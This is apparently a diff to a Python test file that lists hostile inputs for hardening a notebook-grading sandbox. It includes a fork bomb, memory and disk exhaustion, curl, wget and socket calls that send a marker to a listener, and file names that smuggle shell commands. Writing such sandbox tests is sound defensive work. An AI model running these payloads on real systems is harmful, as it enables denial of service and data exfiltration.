@@ -2,7 +2,7 @@
 
 from pathlib import Path
 
-from tests.hostile.attack import LISTENER, MARK, RIGHT, Attack
+from tests.hostile.attack import GRADIENT, LISTENER, MARK, RIGHT, Attack
 
 TRY = "import os, sys, socket, subprocess, glob, shutil\ndef attempt(work):\n    try:\n        return work()\n    except BaseException as error:\n        return error\n"
 PLANT = TRY + f"""
@@ -78,12 +78,12 @@ def attacks(course: Path) -> dict[str, Attack]:
         # bounds
         "eats-memory": Attack("hoard = []\nwhile True:\n    hoard.append(bytearray(64 << 20))"),
         "forks-on": Attack("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
-        "fills-the-disk": Attack("n = 0\nwhile True:\n    n += 1\n    with open(f'fill-{n}', 'wb') as file:\n        file.write(bytes(8 << 20))", answer=RIGHT, fair=2.0),
+        "fills-the-disk": Attack("n = 0\nwhile True:\n    n += 1\n    with open(f'fill-{n}', 'wb') as file:\n        file.write(bytes(8 << 20))", answer=RIGHT, fair=GRADIENT),
         "floods-stdout": Attack("while True:\n    print('x' * 100_000)"),
         "floods-stderr": Attack("import sys\nwhile True:\n    sys.stderr.write('x' * 100_000)\n    sys.stderr.flush()"),
         "floods-displays": Attack("from IPython.display import display, HTML\nwhile True:\n    display(HTML('<b>x</b>' * 10_000))"),
-        "one-huge-output": Attack("print('y' * 15_000_000)", answer=RIGHT, fair=2.0),
-        "many-lines": Attack("print('z\\n' * 300_000)", answer=RIGHT, fair=2.0),
+        "one-huge-output": Attack("print('y' * 15_000_000)", answer=RIGHT, fair=GRADIENT),
+        "many-lines": Attack("print('z\\n' * 300_000)", answer=RIGHT, fair=GRADIENT),
         "never-ends": Attack(WITHOUT_END),
         "slow-under-each-limit": Attack(("import time; time.sleep(2)",) * 40),
         "ignores-interrupts": Attack("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nimport time\nwhile True:\n    time.sleep(1)"),
@@ -92,9 +92,14 @@ def attacks(course: Path) -> dict[str, Attack]:
         "sends-home": Attack(f"import socket\nfor address in (('127.0.0.1', {LISTENER}), ('1.1.1.1', 53)):\n    try:\n        socket.create_connection(address, timeout=1).sendall(b'{MARK}')\n    except OSError:\n        pass"),
         "sends-by-shell": Attack(f"!curl -s --max-time 2 http://127.0.0.1:{LISTENER}/{MARK}\n!wget -q -T 2 http://127.0.0.1:{LISTENER}/{MARK}"),
         # odd files
-        "deep-folders": Attack(answer=RIGHT, files={deep(20): b"x"}, fair=2.0),
-        "many-files": Attack(answer=RIGHT, files={f"f/{n}": b"x" for n in range(3000)}, fair=2.0),
+        "deep-folders": Attack(answer=RIGHT, files={deep(20): b"x"}, fair=GRADIENT),
+        "many-files": Attack(answer=RIGHT, files={f"f/{n}": b"x" for n in range(3000)}, fair=GRADIENT),
         "name-of-no-characters": Attack(files={b"\xff\xfe.txt": b"x"}, fails=True),
-        "name-with-newline": Attack(answer=RIGHT, files={"a\nb <script>.txt": b"x", "$(touch x)": b"", "-rf": b""}, fair=2.0),
+        "name-with-newline": Attack(answer=RIGHT, files={"a\nb <script>.txt": b"x", "$(touch x)": b"", "-rf": b""}, fair=GRADIENT),
+        "pipes": Attack(answer=RIGHT, files={"pipe": None, "folder/pipe": None}, fair=GRADIENT),
+        "time-stamp-a-pipe": Attack(answer=RIGHT, files={"timestamp.txt": None}, fair=GRADIENT),
+        "time-stamp-a-link": Attack(answer=RIGHT, files={"timestamp.txt": course / "gradebook.db"}, fair=GRADIENT),
+        "time-stamp-without-end": Attack(answer=RIGHT, files={"timestamp.txt": Path("/dev/zero")}, fair=GRADIENT),
+        "time-stamp-a-folder": Attack(answer=RIGHT, files={"timestamp.txt/x": b""}, fair=GRADIENT),
         "time-stamp-of-nonsense": Attack(files={"timestamp.txt": b"next year, perhaps"}, fails=True),
     }
